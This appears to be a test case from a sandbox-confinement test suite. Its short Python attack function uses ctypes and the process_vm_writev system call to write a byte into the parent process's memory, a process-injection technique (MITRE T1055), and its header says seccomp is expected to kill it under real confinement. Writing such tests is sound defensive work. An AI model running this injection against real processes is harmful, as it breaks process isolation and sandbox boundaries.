# title: write into the memory of the parent
# reference: https://man7.org/linux/man-pages/man2/process_vm_readv.2.html, https://attack.mitre.org/techniques/T1055/
# real: killed: seccomp
# weakened: seccomp, landlock, privileges, user_ns, pid_ns
# proof: value: 1
# needs: root

import ctypes
import os


def attack(worker):
    spare = ctypes.addressof(ctypes.c_char.in_dll(ctypes.pythonapi, "_Py_NoneStruct"))  # its count of references
    byte = ctypes.create_string_buffer(ctypes.string_at(spare, 1), 1)
    mine = (ctypes.c_size_t * 2)(ctypes.addressof(byte), 1)
    theirs = (ctypes.c_size_t * 2)(spare, 1)
    return worker.syscall("process_vm_writev", os.getppid(), mine, 1, theirs, 1, 0)
